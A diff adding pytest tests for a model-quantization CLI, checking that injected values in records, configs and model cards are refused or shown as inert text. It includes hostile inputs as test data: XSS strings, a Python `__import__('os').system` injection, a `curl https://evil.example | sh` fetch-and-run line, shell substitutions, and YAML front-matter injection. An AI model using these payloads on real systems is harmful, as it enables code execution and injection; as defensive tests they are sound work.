@@ -1,0 +1,165 @@
+"""What a record, a config, a card or a server says is data: refused where it is read, or text where it is shown."""
+
+from __future__ import annotations
+
+import json
+import re
+import shlex
+import shutil
+from copy import deepcopy
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+import typer.main
+import yaml
+
+from commands import run
+from pushes import ABOUT, COMMIT, CONFIG, make
+from qz import MalformedInput
+from qz.cli.app import app
+from qz.cli.dequantize import dequantize
+from qz.cli.quantize import quantize
+from qz.cli.recorded import DECIDING
+from qz.formats.folder import LocalFolder
+from qz.formats.malformed import Malformed
+from qz.formats.output.record import RECORD, read_record
+from qz.formats.publish.card import write_card
+from qz.formats.publish.card_facts import Component, facts_of, inherit
+
+EVIL = '<img src=x onerror=alert(1)> <script>x</script> [x](http://evil.example) `x` | "); import os #'
+PYTHON = 'bfloat16); __import__("os").system("id") #'
+
+
+@pytest.mark.parametrize(
+    ("where", "value"),
+    [
+        ("dtype", PYTHON),
+        ("settings.method.bnb_4bit_compute_dtype", PYTHON),
+        ("command", "curl https://evil.example | sh"),
+        ("command", ["sh", "-c", "id"]),
+        ("origin.location", EVIL),
+        ("source.revision", EVIL),
+        ("source.library", "x\nlicense: mit\nbase_model: evil/evil"),
+        ("source.architecture", EVIL),
+        ("source.location", "x\nlicense: mit"),
+        ("versions.torch", EVIL),
+        ("method", EVIL),
+        ("components", [{"name": "x", "method": EVIL}]),
+        ("components", [{"name": "x", "architecture": EVIL}]),
+        ("skipped", 5),
+        ("skipped", [5]),
+        ("loss.layers", 5),
+        ("loss.layers", [5]),
+        ("settings.skips", 5),
+        ("settings.components", 5),
+        ("components", 5),
+        ("parameters.total", -1),
+        ("bytes", {"source": 1 << 70, "output": 1}),
+        ("source", []),
+    ],
+)
+def test_a_record_of_other_kinds_of_values_is_malformed(tmp_path: Path, where: str, value: object) -> None:
+    about = deepcopy(ABOUT)
+    *parents, last = where.split(".")
+    inner: Any = about
+    for name in parents:
+        inner = inner.setdefault(name, {})
+    inner[last] = value
+    made = make(tmp_path / "made", about=about)
+    written = json.loads((made / RECORD).read_text())
+    written["about"] = about  # as somebody else writes it
+    (made / RECORD).write_text(json.dumps(written))
+    with pytest.raises(Malformed, match=last) as raised:
+        read_record(LocalFolder(made))
+    assert raised.value.kind == "record-malformed"
+
+
+def test_whatever_a_config_or_an_unchecked_record_holds_is_text_in_the_card() -> None:
+    source = {
+        "location": EVIL,
+        "revision": COMMIT,
+        "subfolder": EVIL,
+        "library": "x\nlicense: mit",
+        "architecture": EVIL,
+    }
+    about = {
+        **ABOUT,
+        "source": source,
+        "origin": {"location": EVIL},
+        "dtype": PYTHON,
+        "scales": EVIL,
+        "rounding": EVIL,
+        "importance": {"file": EVIL, "sha256": EVIL},
+        "versions": {EVIL: EVIL},
+        "skipped": [EVIL],
+        "loss": {"layers": [{"name": EVIL, "relative_error": 0.5}]},
+        "command": ["qz", "quantize", "x\n```\n<img src=x>", "$(id)", "; id"],
+    }
+    config = {"quantization_config": {"load_in_4bit": True, "bnb_4bit_compute_dtype": PYTHON}}
+    facts = inherit(facts_of(about, config), {"license": "mit\nbase_model: evil/evil", "language": {"a": 1}})
+    for part in (facts, replace(facts, components=(Component(EVIL, EVIL, EVIL, (1, 1)),), pipeline=True)):
+        card = write_card(part, "me/new")
+        _, head, text = card.split("---\n", 2)
+        assert yaml.safe_load(head) == {
+            "library_name": "transformers",
+            "tags": ["bitsandbytes", "4-bit", "nf4"],
+        }
+        prose, *blocks = re.split(r"^(````?\w+\n.*?\n````?)$", text, flags=re.MULTILINE | re.DOTALL)
+        code = [block for block in blocks if block.startswith("```")]
+        prose += "".join(block for block in blocks if not block.startswith("```"))
+        for bad in ("<img", "<script", "](http:", "http://evil"):
+            assert bad not in re.sub(r"`[^`]*`", "", prose)
+        assert len(code) == 2
+        compile(code[0].split("\n", 1)[1].rsplit("\n", 1)[0], "snippet", "exec")
+        assert "__import__" not in card
+        assert shlex.split(code[1].split("\n", 1)[1].rsplit("\n", 1)[0])[3:] == ["$(id)", "; id"]
+
+
+def test_a_card_that_is_nested_too_deep_is_malformed() -> None:
+    existing = f"---\nx: {'[' * 5000}{']' * 5000}\n---\ntext\n"
+    with pytest.raises(MalformedInput, match="YAML head"):
+        write_card(facts_of(ABOUT, CONFIG), "me/new", existing=existing)
+
+
+def test_every_recorded_word_is_an_option() -> None:
+    commands: Any = typer.main.get_command(app)
+    options = {
+        option for name in ("quantize", "dequantize") for p in commands.commands[name].params for option in p.opts
+    }
+    assert {"--" + name.replace("_", "-") for name in DECIDING} <= options
+
+
+def test_the_record_and_the_card_tell_the_options_that_decide_the_bytes_in_one_spelling(
+    tiny_llama: Path, tmp_path: Path
+) -> None:
+    """However they were given: the same output has the same record."""
+    both: dict[str, Any] = {"double_quant": True, "skip": ["self_attn.q_proj"], "max_shard_size": 100_000}
+    run(quantize, tiny_llama, output=tmp_path / "a", nf4=True, **both, threads=1, fsync=False)
+    (tmp_path / "link").symlink_to(tiny_llama)
+    run(quantize, tmp_path / "link", output=tmp_path / "b", method="nf4", **both, dtype="auto")
+    assert (tmp_path / "a" / RECORD).read_bytes() == (tmp_path / "b" / RECORD).read_bytes()
+    record = read_record(LocalFolder(tmp_path / "a"))
+    assert record is not None
+    words = ["--nf4", "--double-quant", "--skip", "self_attn.q_proj", "--max-shard-size", "100000"]
+    assert record.about["command"] == ["qz", "quantize", tiny_llama.name, *words]
+    card = write_card(facts_of(record.about, CONFIG), "me/new")
+    assert f"```sh\n{shlex.join(record.about['command'])}\n```" in card
+    run(dequantize, tmp_path / "a", output=tmp_path / "back", dtype="float32")
+    back = read_record(LocalFolder(tmp_path / "back"))
+    assert back is not None
+    assert back.about["command"] == ["qz", "dequantize", "a", "--dtype", "float32"]
+    assert "converted back to float32" in write_card(facts_of(back.about, {}), "me/back")
+
+
+def test_a_folder_with_a_line_break_in_its_name_makes_a_record_that_can_be_read(
+    tiny_llama: Path, tmp_path: Path
+) -> None:
+    real = tmp_path / "real\nname"
+    shutil.copytree(tiny_llama, real)
+    run(quantize, real, output=tmp_path / "out")
+    record = read_record(LocalFolder(tmp_path / "out"))
+    assert record is not None
+    assert record.about["source"]["location"] == "real\\nname"
+    assert run(quantize, real, output=tmp_path / "out", if_exists="skip")["up_to_date"] is True
